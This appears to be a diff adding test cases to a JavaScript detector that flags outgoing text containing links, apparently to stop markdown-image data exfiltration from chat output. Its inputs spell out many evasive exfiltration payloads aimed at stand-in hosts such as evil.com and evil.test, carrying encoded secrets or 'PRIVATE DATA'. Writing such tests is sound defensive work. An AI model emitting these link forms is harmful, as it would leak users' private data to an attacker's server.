@@ -70,12 +70,117 @@ describe("a text that leaves", () => {
     expect(check(text)).toBe(`it has a link to ${host}`);
   });
 
+  it.each([
+    "_www.evil.com/?d=c2VjcmV0_",
+    "__www.evil.com/?d=c2VjcmV0__",
+    "_www.evil.com_",
+    '<img src=" //www.evil.com/?d=c2VjcmV0">',
+    '<img src="https:/\t/www.evil.com/?d=c2VjcmV0">',
+    '<img src="https://github.com @www.evil.com/">',
+    '<img srcset="x 1x, //www.evil.com/?d=c2VjcmV0 2x">',
+    `[x](${" ".repeat(10)}//www.evil.com/?d=c2VjcmV0)`,
+    "> [foo]:\n> //www.evil.com/?d=c2VjcmV0\n\n![foo]",
+  ])("is held for %j, which receivers make a link of", (text) => {
+    expect(check(text)).toBe('it has a link to "www.evil.com"');
+  });
+
+  it.each([
+    ["__evil.dev/?d=c2VjcmV0__", "evil.dev"],
+    ["Wait...evil.dev/?d=c2VjcmV0", "evil.dev"],
+    ["e\u0301github.com/?d=c2VjcmV0", "xn--github-9ua.com"],
+    ["evil*x*github.com/?d=c2VjcmV0", "evilxgithub.com"],
+    ["evil`x`github.com/?d=c2VjcmV0", "evilxgithub.com"],
+    ["evil~~x~~github.com/?d=c2VjcmV0", "evilxgithub.com"],
+    ['<img src="https://github.com\n.evil/c2VjcmV0">', "github.com.evil"],
+    ["evil.xn--p1ai/?d=c2VjcmV0", "evil.xn--p1ai"],
+    ["a.b.c.d.e.f.g.h.i.j.k.evil.dev/?d=c2VjcmV0", "a.b.c.d.e.f.g.h.i.j.k.evil.dev"],
+    ["203.0.113.7/?d=c2VjcmV0", "203.0.113.7"],
+    ["203.0.113.7/8,c2VjcmV0", "203.0.113.7"],
+  ])("is held for %j, a link that receivers make to %s", (text, host) => {
+    expect(check(text)).toBe(`it has a link to "${host}"`);
+  });
+
+  it.each([
+    "1.2.3/4, 10.15.7, v10.15.7-rc.1, 1.2.3.4, 10.0.0.0/8 and 192.168.0.0/16.",
+    "foo.bar() in ./src/a.b/c, ../x.y/z, ~/.config/app.json and src/_private.module/x",
+    "| a | b |\n|---|---|\n| `x.y` | **z** |",
+    "> const f = () => g(a?.b);\n> node.js\n",
+    "_github.com/acme_, **github.com/acme** and `github.com/acme`",
+    "main...feature, i.e. this one",
+  ])("may say %j, which is no link", (text) => {
+    expect(check(text)).toBeUndefined();
+  });
+
+  describe("that repeats an address of its event", () => {
+    const given =
+      "https://evil.test/ and https://evil.test/x and https://evil.test/x\\ and [w](https://evil.test/a_(b)).";
+    const repeats = checkOutgoing(
+      { hasSecret: () => false, isLinkHost: () => false },
+      { hasCanary: () => false, given: () => given },
+    );
+
+    it.each([
+      "see https://evil.test/x.",
+      "(https://evil.test/x), (see https://evil.test/x).",
+      "[text](https://evil.test/x) and [text]( https://evil.test/x )",
+      '[text](https://evil.test/x "title")',
+      "[w](https://evil.test/a_(b))",
+      "<https://evil.test/x>.",
+      "**https://evil.test/x** and `https://evil.test/x`",
+      "| https://evil.test/x | a |",
+      '> https://evil.test/x\n> [1]: https://evil.test/x "title"',
+      '<a href="https://evil.test/x">https://evil.test/x</a>',
+      "<a href=https://evil.test/x>text</a>",
+    ])("may leave as %j", (text) => {
+      expect(repeats(text)).toBeUndefined();
+    });
+
+    it.each([
+      "![a](<https://evil.test/ PRIVATE DATA>)",
+      "![a](https://evil.test/<PRIVATE-DATA)",
+      "![a](https://evil.test/ PRIVATE)",
+      "![a](https://evil.test/x!.:;,!?*_~)",
+      "![a](https://evil.test/x\\)PRIVATE)",
+      "![a](https://evil.test/x&#41;PRIVATE)",
+      "![a]\n\n[a]: <https://evil.test/ PRIVATE>",
+      "[a]: https://evil.test/x!?!",
+      "<https://evil.test/x PRIVATE>",
+      '<img src="https://evil.test/ PRIVATE DATA">',
+      '<img src="https://evil.test/\nPRIVATE">',
+      "<img src='https://evil.test/x!'>",
+      "<img src=https://evil.test/<PRIVATE>",
+      "https://evil.test/x!.:;,!?*_~",
+    ])("is held with more in it: %j", (text) => {
+      expect(repeats(text)).toBe('it has a link to "evil.test"');
+    });
+
+    it("is held with more in it behind much white space", () => {
+      const text = `<img src="https://evil.test/x${" ".repeat(10_000)}PRIVATE">`;
+      expect(repeats(text)).toBe('it has a link to "evil.test"');
+    });
+  });
+
+  it("is held for many addresses that are too long to be told apart", () => {
+    const long = `https://github.com/${"a".repeat(9_000)}`;
+    expect(findLinks("http:/github.com/a".repeat(1_500) + long)).toHaveLength(1_000);
+    expect(check(`${"https://github.com/acme ".repeat(1_000)}https://evil.example/`)).toBe("it has 1000 links or more");
+  });
+
   it("is read in time that grows with its length alone", () => {
     for (const text of [
       "https://".repeat(100_000),
       "a.".repeat(300_000),
       "](//".repeat(100_000),
       "a".repeat(500_000),
+      "http:/a".repeat(50_000) + ")".repeat(300_000),
+      `${"é".repeat(62)}.`.repeat(10_000),
+      "a____".repeat(100_000),
+      "](//a".repeat(100_000),
+      '="//a'.repeat(100_000),
+      `](${" ".repeat(300_000)}//`,
+      `="x,${" ".repeat(300_000)}//a`,
+      `${"=//a".repeat(990)}${"b".repeat(300_000)}`,
+      `${">".repeat(300_000)}${" ".repeat(300_000)}`,
     ]) {
       expect(findLinks(text).length).toBeLessThanOrEqual(1_000);
     }
